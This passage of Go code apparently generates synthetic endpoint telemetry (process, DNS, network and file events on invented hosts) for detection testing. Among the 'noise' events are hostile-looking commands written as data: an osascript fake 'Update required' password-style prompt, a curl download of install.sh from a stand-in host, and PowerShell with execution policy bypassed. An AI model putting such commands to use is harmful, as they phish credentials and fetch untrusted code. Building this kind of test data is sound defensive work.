		{sys32 + "svchost.exe", `C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe`, `"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler`, true},
		{sys32 + "svchost.exe", sys32 + "CompatTelRunner.exe", `C:\Windows\system32\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun -cv:%CV%.1`, true},
		{`C:\Windows\CCM\CcmExec.exe`, psPath, `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoLogo -Noninteractive -NoProfile -ExecutionPolicy Bypass "& 'C:\WINDOWS\CCM\SystemTemp\%GUID%.ps1'"`, true},
		{sys32 + "svchost.exe", sys32 + "certutil.exe", `certutil.exe -pulse`, true},
		{sys32 + "svchost.exe", sys32 + "sppsvc.exe", `C:\Windows\system32\sppsvc.exe`, true},
		{sys32 + "services.exe", sys32 + "svchost.exe", `C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp`, true},
	}
	for k := 0; k < 480; k++ {
		h := g.hosts[g.r.IntN(len(g.hosts))]
		t := ts[g.r.IntN(len(ts))]
		var parent *proc
		if t.parent == `C:\Windows\explorer.exe` && h.explorer != nil {
			parent = h.explorer
		} else {
			parent = g.pseudoParent(h, t.parent, "")
		}
		cmd := strings.ReplaceAll(t.cmd, "%GUID%", strings.ToLower(fmt.Sprintf("%s-%s-%s-%s-%s", g.hex(8), g.hex(4), g.hex(4), g.hex(4), g.hex(12))))
		cmd = strings.ReplaceAll(cmd, "%CV%", g.hex(22))
		g.pr2("noise_system", h, parent, t.image, cmd, g.anyTS(), opt{system: t.system || !h.workstation})
	}
}

func (g *gen) nonWindows() {
	mac := &host{name: "MBP-DESIGN-0007", aid: g.hex(32), aip: "203.0.113.77", localIP: "10.20.30.41", user: "n.kim", platform: "Mac",
		byKey: map[string]*proc{}, pseudo: map[string]*proc{}}
	lin := &host{name: "ubuntu-dev-03", aid: g.hex(32), aip: "198.51.100.17", localIP: "10.20.40.12", user: "i.petrov", platform: "Lin",
		byKey: map[string]*proc{}, pseudo: map[string]*proc{}}
	chrome := g.pseudoParent(mac, "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "")
	firefox := g.pseudoParent(lin, "/usr/lib/firefox/firefox", "")
	bash := g.pseudoParent(lin, "/usr/bin/bash", "")
	for k := 0; k < 20; k++ {
		var h *host
		var parent *proc
		var img, cmd string
		switch k % 5 {
		case 0, 1:
			h, parent = mac, chrome
			img = "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/131.0.6778.86/Helpers/Google Chrome Helper (Renderer).app/Contents/MacOS/Google Chrome Helper (Renderer)"
			cmd = "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/131.0.6778.86/Helpers/Google Chrome Helper (Renderer).app/Contents/MacOS/Google Chrome Helper (Renderer) --type=renderer --lang=en-US --num-raster-threads=4 --renderer-client-id=" + fmt.Sprint(g.num(5, 300))
		case 2:
			h, parent = mac, chrome
			img, cmd = "/usr/bin/osascript", `osascript -e 'display dialog "Update required" default answer ""'`
		case 3:
			h, parent = lin, firefox
			img, cmd = "/usr/bin/sh", "/bin/sh -c xdg-open /home/i.petrov/Downloads/report.pdf"
		default:
			h, parent = lin, bash
			img, cmd = "/usr/bin/curl", "curl -fsSL https://files-share.example/install.sh -o /tmp/install.sh"
		}
		g.pr2("noise_non_windows", h, parent, img, cmd, g.workTS(), opt{})
	}
}

// ---- other event types -----------------------------------------------------

var benignDomains = []string{
	"www.google.com", "login.microsoftonline.com", "outlook.office365.com", "teams.microsoft.com",
	"www.bing.com", "github.com", "intranet.corp.example", "sharepoint.corp.example", "fonts.gstatic.com",
	"update.googleapis.com", "www.wikipedia.org", "zoom.us", "cdn.jsdelivr.net", "onboarding.corp.example",
}

func (g *gen) otherEvents() {
	// downloads written by browsers
	files := []struct{ simple, name string }{
		{"NewExecutableWritten", "ZoomInstallerFull.exe"}, {"NewExecutableWritten", "npp.8.7.Installer.x64.exe"},
		{"PdfFileWritten", "Statement_%d.pdf"}, {"OoxmlFileWritten", "Q1_Report_%d.docx"},
		{"ZipFileWritten", "photos_%d.zip"}, {"GenericFileWritten", "readme_%d.txt"},
	}
	for k := 0; k < 24; k++ {
		h := g.randomWS()
		b := g.randomBrowser(h)
		f := files[k%len(files)]
		name := f.name
		if strings.Contains(name, "%d") {
			name = fmt.Sprintf(name, g.num(1000, 99999))
		}
		g.fileWritten("other_file_written", f.simple, h, b, downloads(h)+`\`+name, g.workTS())
	}

	// DNS: hits first, then browsers and system processes
	for k := 0; k < 460; k++ {
		if k < len(g.netRefs) {
			r := g.netRefs[k]
			g.dns(r.p.h, r.p, r.domain, r.p.ts+int64(g.num(80, 1500)))
			continue
		}
		h := g.randomWS()
		var ctx *proc
		if g.r.IntN(4) == 0 {
			ctx = g.procs[g.r.IntN(len(g.procs))]
			h = ctx.h
		} else {
			ctx = g.randomBrowser(h)
		}
		g.dns(h, ctx, g.pick(benignDomains), max(ctx.ts+1000, g.workTS()))
	}
	// network: hits first, then browsers and system processes
	for k := 0; k < 380; k++ {
		if k < len(g.netRefs) {
			r := g.netRefs[k]
			port := "443"
			if strings.HasPrefix(r.domain, "192.0.2.") || strings.HasPrefix(r.domain, "crl.") || strings.HasPrefix(r.domain, "ocsp.") {
				port = "80"
			}
			g.netConnect(r.p.h, r.p, ipFor(r.domain), port, r.p.ts+int64(g.num(1600, 3000)))
			continue
		}
		h := g.randomWS()
		var ctx *proc
		if g.r.IntN(4) == 0 {
			ctx = g.procs[g.r.IntN(len(g.procs))]
			h = ctx.h
		} else {
			ctx = g.randomBrowser(h)
		}
		g.netConnect(h, ctx, ipFor(g.pick(benignDomains)), "443", max(ctx.ts+1000, g.workTS()))
	}
	// end of process
	for k := 0; k < 300; k++ {
		p := g.procs[g.r.IntN(len(g.procs))]
		end := p.ts + int64(g.num(500, 7_200_000))
		f := map[string]string{
			"TargetProcessId":            p.tpid,
			"ContextProcessId":           p.tpid,
			"RawProcessId":               p.rpid,
			"ContextTimeStamp":           secs(end),
			"EffectiveTransmissionClass": "3",
			"ConfigBuild":                "1007.3.0019507.1",
			"name":                       "EndOfProcessV19",
		}
		if g.r.IntN(2) == 0 {
			f["ComputerName"] = p.h.name
		}
		g.emit("other_end_of_process", "EndOfProcess", end, p.h, f)
	}
}
